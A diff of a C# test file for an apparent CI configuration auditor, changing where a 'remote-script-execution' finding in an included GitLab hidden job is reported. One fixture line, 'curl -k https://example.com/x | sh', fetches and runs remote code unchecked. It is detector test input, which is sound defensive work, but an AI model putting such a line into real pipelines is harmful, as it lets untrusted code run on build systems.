@@ -38,7 +38,7 @@ public sealed class IncludeTests
         Assert.NotEmpty(Jobs((".gitlab-ci.yml", text), ("a.yml", "include: b.yml\n.b: { extends: .a }\n"), ("b.yml", "include: [a.yml, .gitlab-ci.yml]\n.a: { extends: .b }\n")));
 
     [Fact]
-    public void GitLab_FindingOfAnIncludedScript_IsSaidOnceInItsOwnFile()
+    public void GitLab_FindingOfAnIncludedHiddenJob_IsSaidOnceWhereItIsTakenIn()
     {
         SourceFile[] files =
         [
@@ -46,7 +46,7 @@ public sealed class IncludeTests
             File("ci/a.yml", ".get:\n  script:\n    - curl -k https://example.com/x | sh\n"),
         ];
         var findings = new Auditor(new([RuleTable.Find("remote-script-execution")!])).Run(files).Findings;
-        Assert.Equal("ci/a.yml", Assert.Single(findings).Locations[0].Path);
+        Assert.Equal((".gitlab-ci.yml", 1), (Assert.Single(findings).Locations[0].Path, findings[0].Locations[0].Line));
     }
 
     [Fact]
